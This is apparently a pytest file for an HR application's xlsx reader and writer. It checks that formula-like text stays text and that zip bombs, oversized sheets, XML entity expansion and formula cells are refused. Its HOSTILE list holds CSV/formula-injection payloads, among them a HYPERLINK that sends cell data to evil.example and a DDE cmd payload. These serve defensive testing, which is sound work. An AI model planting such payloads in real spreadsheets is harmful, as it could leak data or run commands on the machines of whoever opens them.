"""hrflow.core.xlsx: text stays text when HRflow writes, and a hostile upload is refused
quickly and in bounded memory before openpyxl reads it."""

import io
import os
import time
import tracemalloc
import zipfile

import openpyxl
import pytest

from hrflow.core import xlsx
from hrflow.core.xlsx import MAX_ROW_CELLS, FormulaCells, UploadRefused, Writer, column_letters, read_upload, workbook_bytes

HOSTILE = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", '=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /C calc'!A0",
           "http://example.com", "0012345", "1e5"]

# --- Crafted files: the sheet XML is written into a zip directly, so a test file of millions
# of cells is small and quick to make.

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '</Types>'
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    '</Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '</Relationships>'
)
SHEET_HEAD = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
SHEET_TAIL = b"</sheetData></worksheet>"


def crafted_xlsx(chunks, *, compression=zipfile.ZIP_DEFLATED, dimension=None, tail=b"") -> bytes:
    """An xlsx whose first sheet's <sheetData> is the concatenation of `chunks` (bytes);
    `tail` goes after </sheetData> (extLst and the like)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", ROOT_RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            head = SHEET_HEAD
            if dimension:
                head = head.replace(b"<sheetData>", f'<dimension ref="{dimension}"/><sheetData>'.encode())
            sheet.write(head)
            for chunk in chunks:
                sheet.write(chunk)
            sheet.write(SHEET_TAIL.replace(b"</worksheet>", tail + b"</worksheet>"))
    return buffer.getvalue()


def text_row(values, r=None) -> bytes:
    cells = "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in values)
    return (f'<row r="{r}">' if r else "<row>").encode() + cells.encode() + b"</row>"


def one_wide_row(cells=3_000_000, batch=100_000):
    """One row of `cells` numeric cells (the 338 KB file of issue 7)."""
    yield b'<row r="1">'
    for start in range(0, cells, batch):
        yield b"<c><v>1</v></c>" * min(batch, cells - start)
    yield b"</row>"


def many_rows(rows=1_048_576, batch=50_000):
    """`rows` rows of one cell each: every row Excel allows."""
    for start in range(0, rows, batch):
        yield b"<row><c><v>1</v></c></row>" * min(batch, rows - start)


def wide_bomb() -> bytes:
    return crafted_xlsx(one_wide_row(), dimension="A1")


def long_bomb() -> bytes:
    return crafted_xlsx(many_rows(), dimension="A1")


def refused(data, **limits):
    limits = {"columns": 3, "max_rows": 10, **limits}
    started = time.perf_counter()
    tracemalloc.start()
    try:
        with pytest.raises(UploadRefused) as info:
            read_upload(io.BytesIO(data), **limits)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return info.value, time.perf_counter() - started, peak


# --- Writing ------------------------------------------------------------------------------

def formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{s.title}!{c.coordinate}" for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


def test_the_writer_keeps_text_that_looks_like_a_formula_as_text():
    def build(writer):
        sheet = writer.sheet("名单")
        writer.header(sheet, ["=A1", "值"])
        for line, value in enumerate(HOSTILE, start=1):
            writer.row(sheet, line, [value, 3, None, True])

    data = workbook_bytes(build)
    assert formula_cells(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [sheet.cell(row=i + 1, column=1).value for i in range(1, len(HOSTILE) + 1)] == HOSTILE
    assert sheet["A1"].value == "=A1" and sheet["B2"].value == 3 and sheet["D2"].value is True
    # Excel itself would read "=..." as a formula once the cell is edited: the quote prefix stops that.
    assert sheet["A2"].quotePrefix and not sheet["A9"].quotePrefix


def test_the_writer_writes_to_a_stream_row_by_row():
    buffer = io.BytesIO()
    with Writer(buffer, constant_memory=True) as writer:
        sheet = writer.sheet("a/b[c]")
        writer.row(sheet, 0, ["=1+2", float("nan")])
    book = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
    assert book.sheetnames == ["a_b_c_"] and formula_cells(buffer.getvalue()) == []
    assert book.worksheets[0]["B1"].value == "nan"


def test_nothing_in_hrflow_uses_xlsxwriter_but_the_writer():
    root = os.path.join(os.path.dirname(__file__), "..", "..", "hrflow")
    users = []
    for folder, _dirs, files in os.walk(root):
        for name in files:
            if name.endswith(".py"):
                path = os.path.join(folder, name)
                with open(path, encoding="utf-8") as source:
                    if "xlsxwriter" in source.read():
                        users.append(os.path.relpath(path, root))
    assert users == [os.path.join("core", "xlsx.py")]


# --- Reading ------------------------------------------------------------------------------

def test_a_normal_file_is_read_with_only_the_template_columns():
    data = crafted_xlsx([text_row(["a", "b", "c", "extra"]), text_row(["1", "2"]), text_row(["x", "y", "z", "w"])])
    assert read_upload(io.BytesIO(data), columns=3, max_rows=10) == [("a", "b", "c"), ("1", "2", None), ("x", "y", "z")]


def test_an_oversize_file_is_refused(settings):
    settings.HRFLOW = {**settings.HRFLOW, "UPLOAD_MAX_BYTES": 1000}
    data = crafted_xlsx([text_row([f"名字{i}" for i in range(3)]) for _ in range(200)], compression=zipfile.ZIP_STORED)
    error, _seconds, _peak = refused(data)
    assert "1000" not in error.message and "MiB" in error.message and "至多" in error.message


def test_a_file_that_is_not_a_zip_is_refused():
    error, _seconds, _peak = refused(b"PK\x03\x04 not really a zip" * 10)
    assert error.message == "文件不是 xlsx 工作簿。"
    assert refused(b"")[0].message == "文件不是 xlsx 工作簿。"


def test_a_zip_bomb_is_refused_by_its_compression_ratio_in_bounded_memory():
    data = crafted_xlsx([b"<row><c><v>1</v></c></row>" * 200_000])
    error, seconds, peak = refused(data)
    assert "压缩" in error.message and seconds < 5 and peak < 20 * 2**20


def test_too_much_unpacked_data_is_refused():
    # Below 1 MiB a member may compress any amount; all members together still count.
    data = crafted_xlsx([b"<row><c><v>1</v></c></row>" * 30_000])
    assert len(read_upload(io.BytesIO(data), columns=3, max_rows=50_000, max_bytes=10 * len(data) * 21)) == 30_000
    error, _seconds, _peak = refused(data, max_bytes=len(data))
    assert "解压" in error.message and "至多" in error.message


def test_an_over_wide_row_is_refused_naming_the_row():
    data = crafted_xlsx([text_row(["a", "b", "c"]), text_row([str(i) for i in range(MAX_ROW_CELLS + 1)], r=2)],
                        compression=zipfile.ZIP_STORED)
    error, _seconds, _peak = refused(data)
    assert error.row == 2 and str(MAX_ROW_CELLS) in error.message and "第2行" in error.message


def test_an_over_long_sheet_is_refused_naming_the_cap():
    data = crafted_xlsx([text_row(["a", "b", "c"])] + [text_row(["1", "2", "3"]) for _ in range(11)])
    error, _seconds, _peak = refused(data, max_rows=10)
    assert "10" in error.message and error.row == 12
    # A single row far down the sheet is as over-long as the rows before it.
    far = crafted_xlsx([text_row(["a", "b", "c"], r=1), text_row(["1", "2", "3"], r=1_000_000)])
    assert refused(far, max_rows=10)[0].row == 1_000_000
    assert len(read_upload(io.BytesIO(data), columns=3, max_rows=11)) == 12


def test_the_three_million_cell_row_is_rejected_within_seconds_in_bounded_memory():
    data = wide_bomb()
    assert len(data) < 400_000  # the size of the file in issue 7 (338 KB)
    error, seconds, peak = refused(data, columns=11, max_rows=50_000)
    assert seconds < 5 and peak < 50 * 2**20, (seconds, peak)
    assert error.message


def test_every_row_excel_allows_is_rejected_within_seconds_in_bounded_memory():
    error, seconds, peak = refused(long_bomb(), columns=11, max_rows=50_000)
    assert seconds < 5 and peak < 50 * 2**20, (seconds, peak)
    assert error.message


def test_a_wide_row_that_compresses_like_a_real_file_is_stopped_at_its_257th_cell():
    import random

    rng = random.Random(7)
    chunks = [b'<row r="1">'] + [f"<c><v>{rng.random()}</v></c>".encode() for _ in range(300_000)] + [b"</row>"]
    data = crafted_xlsx(chunks)
    error, seconds, peak = refused(data, columns=11, max_rows=50_000)
    assert error.row == 1 and seconds < 5 and peak < 50 * 2**20, (seconds, peak)


def test_a_document_type_declaration_is_refused():
    laughs = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    data = crafted_xlsx([text_row(["a", "b", "c"])])
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(buffer, "w") as target:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "xl/workbook.xml":
                content = content.replace(b"?>", b"?>" + laughs, 1)
            target.writestr(info.filename, content)
    assert refused(buffer.getvalue())[0].message == "文件不是 xlsx 工作簿。"


# --- Formula cells ------------------------------------------------------------------------

# Excel 2010+ keeps a drop-down that lists another sheet in extLst, as <xm:f>: not a cell.
EXT_VALIDATION = (
    b'<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
    b'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main">'
    b'<x14:dataValidations xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" count="1">'
    b'<x14:dataValidation type="list"><x14:formula1><xm:f>Lists!$A$1:$A$2</xm:f></x14:formula1>'
    b'<xm:sqref>A2:A50000</xm:sqref></x14:dataValidation></x14:dataValidations></ext></extLst>'
)


def test_a_formula_cell_is_refused_naming_its_row_and_column_not_read_as_its_cached_value():
    # As Excel saves =1+1 typed into B3: the formula and its cached result "2", which
    # openpyxl's data_only reading would hand over as the value.
    data = crafted_xlsx([
        text_row(["a", "b", "c"], r=1), text_row(["x", "y", "z"], r=2),
        b'<row r="3"><c r="A3" t="inlineStr"><is><t>x</t></is></c><c r="B3"><f>1+1</f><v>2</v></c></row>',
        # Without references a cell follows the one before it: this formula is in C4.
        b'<row r="4"><c><v>1</v></c><c><v>1</v></c><c t="str"><f t="shared" ref="C4:C5" si="0">A4&amp;B4</f><v>11</v></c></row>',
    ], tail=EXT_VALIDATION)
    error = refused(data)[0]
    assert isinstance(error, FormulaCells)
    assert error.cells == [(3, 2), (4, 3)] and error.count == 2
    assert error.row == 3 and error.message == "第3行B列：单元格是公式，请直接填写内容。"


@pytest.mark.filterwarnings("ignore:Data Validation extension is not supported")
def test_formulas_outside_the_template_columns_and_in_extensions_are_not_read_and_not_refused():
    data = crafted_xlsx([
        text_row(["a", "b", "c"], r=1),
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>x</t></is></c><c r="D2"><f>A2</f><v>0</v></c>'
        b'<c r="AA2"><f>1+1</f><v>2</v></c></row>',
    ], tail=EXT_VALIDATION)
    assert read_upload(io.BytesIO(data), columns=3, max_rows=10) == [("a", "b", "c"), ("x", None, None)]


def test_formula_cells_are_named_up_to_a_cap_and_counted_beyond_it(monkeypatch):
    monkeypatch.setattr(xlsx, "MAX_FORMULA_CELLS", 2)
    data = crafted_xlsx([text_row(["a", "b", "c"], r=1)] + [f'<row r="{r}"><c r="A{r}"><f>1</f><v>1</v></c></row>'.encode()
                                                              for r in range(2, 7)])
    error = refused(data)[0]
    assert error.cells == [(2, 1), (3, 1)] and error.count == 5


def test_a_workbook_written_by_openpyxl_with_a_formula_is_refused():
    book = openpyxl.Workbook()
    book.active.append(["a", "b", "c"])
    book.active.append(["x", "=1+1", "z"])
    buffer = io.BytesIO()
    book.save(buffer)
    assert refused(buffer.getvalue())[0].cells == [(2, 2)]


@pytest.mark.parametrize("column, letters", [(1, "A"), (3, "C"), (26, "Z"), (27, "AA"), (16384, "XFD")])
def test_column_letters(column, letters):
    assert column_letters(column) == letters and xlsx._column_number(f"{letters}7") == column
